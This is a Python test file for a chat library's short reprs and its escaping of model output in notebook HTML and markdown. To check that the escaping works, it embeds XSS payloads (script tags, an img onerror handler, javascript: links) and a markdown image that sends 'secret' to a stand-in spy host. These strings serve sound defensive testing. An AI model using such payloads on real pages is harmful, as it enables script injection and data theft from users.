"""Short reprs, and what a notebook shows: rich, and inert whatever a model writes."""

import html
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import example, given, strategies as st

from requirements import requirement
from sidestream import Agent, ChatMessage, ChatResult, DataPart, File, Preview, ToolResult, Usage
from sidestream.parts import Finish, Source, StepStart, StreamPart, TextDelta, TextEnd, TextStart, ToolEvent
from sidestream.results import MediaResult
from sidestream.results.chunks import ChunkFold
from sidestream.results.results import fold
from sidestream.testing import FakeProvider, ResponsesScript, pixel_png
from sidestream.text.html import file_html, safe_markdown
from sidestream.text.reprs import MAX_CHARS

BIG = b"\x89PNG\r\n\x1a\n" + bytes(300_000)
DEEP: Any = {"a": "x" * 5000, "b": [{"c": ["y" * 900] * 90}] * 90}
HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(1)> ![x](https://spy.example/?q=secret) [c](javascript:alert(1))"
)


async def a_result(*, approval: Any = None) -> ChatResult[str]:
    """A result with an image, a search, a citation and, if asked for, a pending approval."""

    def get(city: str) -> str:
        return city

    cite = {"type": "url_citation", "url": "https://a.example/", "title": "A", "start_index": 0, "end_index": 5}
    script = (
        ResponsesScript()
        .web_search("q <b>", sources=["https://a.example/"])
        .image(BIG)
        .text("Hello world", annotations=[cite])
    )
    script = script.function_call("get", {"city": "Oslo"}) if approval else script
    async with FakeProvider([script.reply()]) as fake:
        settings: Any = {"tools": [get], "approval": approval} if approval else {}
        return await Agent("openai-responses", base_url=fake.base_url, **settings).send("hi")


@requirement("R108")
async def test_repr_of_result_with_image_is_short() -> None:
    result = await a_result(approval=lambda question: "ask")
    for value in (result, result.run_state, *result.parts, *result.messages, *result.tool_runs, result.usage):
        assert len(repr(value)) <= MAX_CHARS, type(value)
    assert "Hello world" in repr(result)


@requirement("R108")
@pytest.mark.parametrize(
    "value",
    [
        File("f", "image/png", "a.png", BIG),
        DataPart(BIG, "image/png"),
        Preview(index=0, data=BIG, mime_type="image/png"),
        ToolEvent("t", "running", DEEP),
        ToolResult("i", "n", "t", DEEP, False, True),
        ChatMessage("model", (DataPart(BIG, "image/png"),) * 99, DEEP),
        Usage(raw=DEEP),
        MediaResult(assets=(File("f", "image/png", "a.png", BIG),) * 50, metadata=DEEP),
        ChatResult(text="x" * 9999, metadata=DEEP, thinking="y" * 9999),
    ],
    ids=lambda value: type(value).__name__,
)
def test_repr_names_type_and_is_bounded(value: Any) -> None:
    shown = repr(value)
    assert shown.startswith(f"{type(value).__name__}(")
    assert shown.endswith(")")
    assert len(shown) <= MAX_CHARS


@requirement("R108")
def test_small_value_is_shown_whole() -> None:
    assert repr(TextDelta("t", "hi")) == "TextDelta(id='t', delta='hi')"
    assert repr(File("f", "text/plain", data=b"ab")) == "File(id='f', mime_type='text/plain', data=b'ab')"


@requirement("R108")
async def test_notebook_shows_cited_text_images_and_folded_tools() -> None:
    shown = (await a_result())._repr_markdown_()
    assert 'Hello<sup><a href="https://a.example/">1</a></sup> world' in shown
    assert '<img src="data:image/png;base64,' in shown
    assert "1. [A](https://a.example/)" in shown
    assert "<details><summary>web&#95;search" in shown
    assert "q &#60;b&#62;" in shown


@requirement("R108")
@pytest.mark.parametrize(
    "kind",
    [
        File("f", "image/png", "a.png", pixel_png()),
        DataPart(pixel_png(), "image/png", "a.png"),
        Preview(index=0, data=pixel_png(), mime_type="image/png"),
    ],
    ids=lambda value: type(value).__name__,
)
def test_notebook_shows_images_inline(kind: Any) -> None:
    assert kind._repr_html_().startswith('<img src="data:image/png;base64,iVBOR')


@requirement("R108")
def test_other_files_are_described_and_their_names_escaped() -> None:
    assert file_html(b"abc", "text/csv", "<b>.csv") == "<p>&lt;b&gt;.csv (text/csv, 3 bytes)</p>"
    assert (
        file_html(None, "text/html", "A", 'https://a.example/"x')
        == '<p><a href="https://a.example/&quot;x">A</a> (text/html)</p>'
    )
    assert "href" not in file_html(None, "text/html", "A", "javascript:alert(1)")
    assert "<img" not in file_html(bytes(9_000_000), "image/png", "big.png")


class Tags(HTMLParser):
    """Collects the tags of a text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[str] = set()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add(tag)
        assert not attrs


def is_inert(shown: str) -> bool:
    """No tag but ours, no image, no link but to the web."""
    links = re.findall(r"\]\(\s*([^\s)]*)|\]:\s*(\S+)", shown)
    targets = [html.unescape(target or other).replace("\\", "") for target, other in links]
    schemes = [match[1].lower() for target in targets if (match := re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", target))]
    return "![" not in shown and Tags(shown).found <= {"code", "pre"} and {*schemes} <= {"http", "https", "mailto"}


PIECES = st.sampled_from(
    [
        *(
            "<script>",
            "</pre>",
            "<img src=x onerror=y>",
            "<",
            ">",
            "&lt;",
            "&#60;",
            "`",
            "``",
            "```",
            "~~~",
            "\n",
            "\n\n",
        ),
        *(" ", "\\", "![", "](", "]:", "[a", ")", "javascript:", "JAVASCRIPT\\:", "data:x", "&#106;avascript:"),
        *("https://a.example", "/x", "a", "$", "!", "\u2028"),
    ]
)


@requirement("R108")
@given(st.lists(PIECES, max_size=14).map("".join))
@example(HOSTILE)
@example("`<b>` ``` <script> ```\n<script>")
@example("\\![x](https://spy.example/)")
@example("```\n</code></pre><script>\n```")
def test_model_text_never_becomes_tag_image_or_script(text: str) -> None:
    assert is_inert(safe_markdown(text))


@requirement("R108")
def test_harmless_markdown_is_unchanged() -> None:
    text = (
        "# A\n\n*b* **c** [d](https://a.example/x_y) [e](docs/f.md)\n\n| a | b |\n|---|---|\n| 1 | 2 > 1 |\n\n- x & y"
    )
    assert safe_markdown(text) == text
    assert safe_markdown("see `a<b>` and\n```py\nx = '<b>'\n\ny\n```") == (
        "see <code>a&#60;b&#62;</code> and\n<pre><code>x &#61; &#39;&#60;b&#62;&#39;&#10;&#10;y</code></pre>"
    )


@requirement("R108")
def test_hostile_answer_is_inert_in_notebook_and_keeps_citations() -> None:
    text = f"{HOSTILE} \ue0001\ue001 \ud83d"
    parts: list[StreamPart] = [
        StepStart(0),
        TextStart("t"),
        TextDelta("t", text),
        Source("s", "url", url='https://a.example/"><script>', title="<script>", text_id="t", end=3),
        TextEnd("t"),
        Finish("limit", Usage()),
    ]
    folding = ChunkFold()
    shown = fold(chunk for part in parts for chunk in folding.feed(part))._repr_markdown_()
    assert "<script" not in shown
    assert "<img" not in shown
    assert shown.count("<sup>") == 1
    assert "finished: limit" in shown
    shown.encode()


@requirement("R108")
def test_marker_inside_code_is_link() -> None:
    parts: list[StreamPart] = [
        StepStart(0),
        TextStart("t"),
        TextDelta("t", "`a_b`"),
        Source("s", "url", url="https://a.example/", text_id="t", end=2),
        Finish("stop", Usage()),
    ]
    folding = ChunkFold()
    shown = fold(chunk for part in parts for chunk in folding.feed(part))._repr_markdown_()
    assert shown.startswith('<code>a<sup><a href="https://a.example/">1</a></sup>&#95;b</code>')


@requirement("R108")
def test_chunk_and_typed_answer_have_markdown_repr() -> None:
    assert ChatResult(text="a <b>")._repr_markdown_() == "a &lt;b>"
    assert ChatResult(text='{"city": "Oslo"}')._repr_markdown_().startswith("<pre><code>")
